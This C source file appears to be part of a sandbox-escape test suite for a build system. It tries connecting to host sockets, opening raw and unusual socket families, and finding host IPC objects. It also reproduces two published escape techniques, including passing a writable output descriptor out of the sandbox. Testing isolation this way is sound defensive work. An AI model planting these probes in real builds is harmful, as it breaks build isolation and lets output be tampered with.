#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <mqueue.h>
#include <netinet/in.h>
#include <poll.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#include "escape.h"

static int reach(int type) {
    struct sockaddr_in address = {.sin_family = AF_INET,
                                  .sin_port = htons((uint16_t)given_number("PORT")),
                                  .sin_addr = {htonl(INADDR_LOOPBACK)}};
    int fd = socket(AF_INET, type, 0);
    char byte = 'x';
    if (fd < 0 || connect(fd, (struct sockaddr *)&address, sizeof address) < 0)
        return 0;
    if (type == SOCK_STREAM)
        return 1;
    /* The victim answers. */
    struct pollfd answer = {.fd = fd, .events = POLLIN};
    return send(fd, &byte, 1, 0) == 1 && poll(&answer, 1, 1000) == 1 && recv(fd, &byte, 1, 0) == 1;
}

static int tcp(void) { return reach(SOCK_STREAM); }

static int udp(void) { return reach(SOCK_DGRAM); }

static int connect_abstract(void) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    const char *name = given("ABSTRACT");
    memcpy(address.sun_path + 1, name, strlen(name));
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    socklen_t length = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name));
    if (fd >= 0 && connect(fd, (struct sockaddr *)&address, length) == 0)
        return fd;
    return -1;
}

static int abstract(void) { return connect_abstract() >= 0; }

/* Gives the victim the output, open to be written to after the build has ended. */
static int pass(void) {
    int fd = connect_abstract();
    if (fd < 0 || !write_file(out(), 0644))
        return 0;
    int file = open(out(), O_RDWR | O_CLOEXEC);
    char byte = 'x', control[CMSG_SPACE(sizeof(int))] = {0};
    struct iovec data = {&byte, 1};
    struct msghdr message = {.msg_iov = &data,
                             .msg_iovlen = 1,
                             .msg_control = control,
                             .msg_controllen = sizeof control};
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_RIGHTS;
    header->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(header), &file, sizeof file);
    return file >= 0 && sendmsg(fd, &message, 0) == 1;
}

static int unix_path(const char *path) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    if (strlen(path) >= sizeof address.sun_path)
        return 0;
    strcpy(address.sun_path, path);
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    return fd >= 0 && connect(fd, (struct sockaddr *)&address, sizeof address) == 0;
}

static int host_socket(void) { return unix_path(given("SOCKET")); }

static int daemon_socket(void) { return unix_path(given("DAEMON_SOCKET")); }

static int raw(void) { return socket(AF_INET, SOCK_RAW, IPPROTO_ICMP) >= 0; }

/* Virtual machines, the kernel's ciphers, all packets, tunnels. */
static int families(void) {
    static const int some[] = {40, 38, 17, 15, 30, 24};
    for (size_t i = 0; i < sizeof some / sizeof *some; i++)
        if (socket(some[i], SOCK_STREAM, 0) >= 0 || socket(some[i], SOCK_SEQPACKET, 0) >= 0 ||
            socket(some[i], SOCK_RAW, 0) >= 0)
            return 1;
    return 0;
}

static int shared_memory(void) { return shmget((key_t)given_number("SHMKEY"), 0, 0) >= 0; }

static int semaphore(void) { return semget((key_t)given_number("SHMKEY"), 0, 0) >= 0; }

static int queue(void) { return mq_open(given("MQUEUE"), O_RDONLY) >= 0; }

static int shm_file(void) { return opens(text("/dev/shm%s", given("MQUEUE")), O_RDONLY); }

const struct attempt sockets[] = {
    {"tcp", "connect to a server of the host", tcp, NULL, 0},
    {"udp", "send a datagram to one", udp, NULL, 0},
    {"abstract-socket", "connect to an abstract socket of the host", abstract, NULL, 0},
    {"cve-2024-27297-abstract-socket", "the same as a fixed output, which has the network",
     abstract, NULL, 1},
    {"cve-2025-46416-pass-descriptor", "as a fixed output, pass a file out by one", pass, NULL, 1},
    {"unix-socket", "connect to a socket in a folder of the host", host_socket, NULL, 0},
    {"daemon-socket", "connect to the daemon's socket", daemon_socket, NULL, 0},
    {"daemon-socket-fixed", "the same as a fixed output", daemon_socket, NULL, 1},
    {"raw-socket", "open a raw socket", raw, NULL, 0},
    {"odd-families", "open a socket of an odd family: vsock, alg, packet", families, NULL, 0},
    {"odd-families-fixed", "the same as a fixed output", families, NULL, 1},
    {"sysv-shared-memory", "find shared memory of the host", shared_memory, NULL, 0},
    {"sysv-semaphore", "find a semaphore of the host", semaphore, NULL, 0},
    {"posix-queue", "open a message queue of the host", queue, NULL, 0},
    {"dev-shm", "open a file in the host's /dev/shm", shm_file, NULL, 0},
    {NULL, NULL, NULL, NULL, 0},
};
